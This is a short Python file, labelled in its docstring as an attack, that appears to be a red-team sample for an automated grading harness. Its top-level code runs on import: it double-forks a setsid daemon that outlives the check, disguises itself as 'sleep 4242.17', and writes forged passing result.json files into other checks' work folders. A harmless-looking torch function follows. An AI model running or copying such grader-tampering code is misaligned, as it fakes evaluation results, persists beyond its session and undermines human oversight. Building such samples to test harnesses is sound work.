"""Attack: a setsid daemon that outlives this check and writes a passing result.json into later checks'
work folders (and marks itself with the command line `sleep 4242.17` while it waits)."""
import glob
import json
import os
import time

import torch

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(600):
            for d in glob.glob("/tmp/explainer-*/workshop-*") + glob.glob("/tmp/explainer-workshop-*"):
                try:
                    if d != os.getcwd() and not os.path.exists(os.path.join(d, "result.json")):
                        json.dump({"exercise": "accept", "status": "pass", "checks": []},
                                  open(os.path.join(d, "result.json"), "w"))
                except OSError:
                    pass
            time.sleep(0.05)
        os._exit(0)
    os.execv("/bin/sleep", ["sleep", "4242.17"])


def entropy_bound_accept(entropy, bound):
    h, order = torch.sort(entropy, dim=-1)
    keep = torch.cumsum(h, dim=-1) - h <= bound
    return torch.zeros_like(keep).scatter_(-1, order, keep)
